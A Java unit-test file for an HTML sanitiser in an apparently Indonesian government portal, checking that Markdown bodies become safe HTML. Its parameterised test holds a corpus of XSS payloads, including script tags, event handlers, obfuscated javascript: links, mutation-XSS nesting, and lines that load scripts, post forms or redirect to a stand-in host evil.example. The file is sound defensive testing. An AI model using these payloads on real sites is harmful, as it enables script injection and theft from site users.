package id.serasan.portal.internal.text;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.Locale;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.junit.jupiter.api.Test;

/** Bodies become safe HTML whatever is written: an XSS corpus, and the Markdown an editor really uses. */
class HtmlTest {
    private static final Pattern TAG = Pattern.compile("<([a-zA-Z][a-zA-Z0-9]*)([^>]*)>");

    /** Every tag of the output is an allowed one, without handlers, styles or script-bearing addresses. */
    private static void assertHarmless(String html) {
        Matcher m = TAG.matcher(html);
        while (m.find()) {
            String name = m.group(1).toLowerCase(Locale.ROOT);
            String attrs = m.group(2).toLowerCase(Locale.ROOT);
            if (name.equals("div")) { // only our own scroll region around a table, never an author's div
                assertThat(m.group()).matches("<div class=\"gulir\" tabindex=\"0\" role=\"region\" aria-label=\"Tabel \\d+\">");
                continue;
            }
            assertThat(name).as(m.group()).isIn("p", "br", "hr", "h2", "h3", "h4", "h5", "h6", "strong", "em", "b",
                    "i", "code", "pre", "blockquote", "ul", "ol", "li", "a", "img", "table", "thead", "tbody", "tr",
                    "th", "td", "del");
            assertThat(attrs).as(m.group()).doesNotContainPattern("\\bon[a-z]+\\s*=")
                    .doesNotContain("style").doesNotContain("javascript").doesNotContain("vbscript")
                    .doesNotContain("data:").doesNotContain("srcdoc");
            if (name.equals("img")) {
                assertThat(attrs).as(m.group()).containsPattern("src=\"/media/[a-z0-9._-]+\"");
            }
        }
    }

    @ParameterizedTest
    @ValueSource(strings = {
            "<script>alert(1)</script>",
            "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
            "<img src=x onerror=alert(1)>",
            "<svg/onload=alert(1)>",
            "<body onload=alert(1)>",
            "<iframe src=javascript:alert(1)></iframe>",
            "<a href=\"javascript:alert(1)\">x</a>",
            "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
            "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
            "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
            "[x](javascript:alert(1))",
            "[x](JAVASCRIPT:alert(1))",
            "[x](vbscript:msgbox(1))",
            "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
            "![x](javascript:alert(1))",
            "![x](https://evil.example/track.gif)",
            "![x](/media/../api/v1/x)",
            "<div style=\"background:url(javascript:alert(1))\">x</div>",
            "<style>@import 'https://evil.example/x.css';</style>",
            "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
            "<object data=\"javascript:alert(1)\"></object>",
            "<embed src=\"javascript:alert(1)\">",
            "<form action=\"https://evil.example\"><input name=p></form>",
            "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">",
            "<base href=\"https://evil.example/\">",
            "<a href=\"https://example.org\" onclick=\"alert(1)\">x</a>",
            "<details open ontoggle=alert(1)>",
            "[x](<javascript:alert(1)>)",
            "<img src=\"/media/a.jpg\" onerror=alert(1)>",
            "`<script>` and ```\n<script>alert(1)</script>\n```",
            "<!--<img src=x onerror=alert(1)>-->",
            "<a href=\"//evil.example\">x</a>",
            "[x](//evil.example/phish)"})
    void attacksEndUpAsTextOrNothing(String attack) {
        String html = Html.fromMarkdown("Sebelum\n\n" + attack + "\n\nSesudah");
        assertHarmless(html);
        assertThat(html).contains("Sebelum").contains("Sesudah");
        assertThat(html.toLowerCase(Locale.ROOT)).doesNotContain("href=\"//").doesNotContain("<script");
    }

    @Test
    void rawHtmlIsShownAsTextNotDropped() {
        assertThat(Html.fromMarkdown("<script>alert(1)</script>")).contains("&lt;script&gt;alert(1)&lt;/script&gt;");
    }

    @Test
    void theMarkdownEditorsUseComesOutAsStructure() {
        String html = Html.fromMarkdown("""
                # Judul utama

                Teks **tebal**, *miring* dan [tautan](https://bkn.go.id) serta [internal](/layanan).

                ## Bagian

                1. satu
                2. dua

                - butir

                | Unsur | Nilai |
                |---|---|
                | U1 | 3,5 |

                > kutipan

                ![Foto pelantikan](/media/pelantikan-0123456789ab.jpg)

                https://www.lapor.go.id
                """);
        assertThat(html).contains("<h2>Judul utama</h2>").contains("<h2>Bagian</h2>")
                .contains("<strong>tebal</strong>").contains("<em>miring</em>")
                .contains("<a href=\"https://bkn.go.id\" rel=\"noopener noreferrer\">tautan</a>")
                .contains("<a href=\"/layanan\" rel=\"noopener noreferrer\">internal</a>")
                .contains("<ol>").contains("<li>satu</li>").contains("<ul>").contains("<table>").contains("<th>Unsur</th>")
                .contains("<td>3,5</td>").contains("<blockquote>")
                .contains("<img src=\"/media/pelantikan-0123456789ab.jpg\" alt=\"Foto pelantikan\" />")
                .contains("<a href=\"https://www.lapor.go.id\" rel=\"noopener noreferrer\">https://www.lapor.go.id</a>")
                .doesNotContain("<h1>");
        assertHarmless(html);
    }

    @Test
    void emptyBodiesAreEmpty() {
        assertThat(Html.fromMarkdown(null)).isEmpty();
        assertThat(Html.fromMarkdown("  \n ")).isEmpty();
        assertThat(Html.sanitise(null)).isEmpty();
    }

    @Test
    void plainTextHasNoMarkupAndDecodedEntities() {
        assertThat(Html.plain("## Syarat & ketentuan\n\nGaji **naik** <b>2</b> kali")).isEqualTo(
                "Syarat & ketentuan Gaji naik <b>2</b> kali");
    }

    @Test
    void excerptsCutAtAWordAndSayTheyAreCut() {
        assertThat(Html.excerpt("Kenaikan pangkat reguler periode April", 20)).isEqualTo("Kenaikan pangkat…");
        assertThat(Html.excerpt("pendek", 20)).isEqualTo("pendek");
        assertThat(Html.excerpt("x".repeat(30), 10)).isEqualTo("xxxxxxxxx…");
        assertThat(Html.excerpt(null, 10)).isEmpty();
        assertThat(Html.excerpt("exactly ten", 11)).isEqualTo("exactly ten");
    }

    @Test
    void tablesScrollInARegionOfTheirOwnThatTheKeyboardReachesAndNothingElseIsAdded() {
        String html = Html.fromMarkdown("| a | b |\n|---|---|\n| 1 | 2 |\n\nteks");
        assertThat(html).startsWith("<div class=\"gulir\" tabindex=\"0\" role=\"region\" aria-label=\"Tabel 1\"><table>")
                .contains("</table></div>").contains("<p>teks</p>");
        // two tables: two regions, each with a name of its own
        String two = Html.fromMarkdown("| a |\n|---|\n| 1 |\n\nantara\n\n| b |\n|---|\n| 2 |\n");
        assertThat(two).contains("aria-label=\"Tabel 1\"><table>").contains("aria-label=\"Tabel 2\"><table>")
                .contains("</table></div>\n<p>antara</p>");
        assertThat(two.split("</div>", -1)).hasSize(3);
        // a div or role written by the author is still dropped by the allow-list
        assertThat(Html.fromMarkdown("<div role=\"region\" tabindex=\"0\">x</div>")).doesNotContain("<div");
        assertThat(Html.fromMarkdown("tanpa tabel")).doesNotContain("gulir");
    }
}
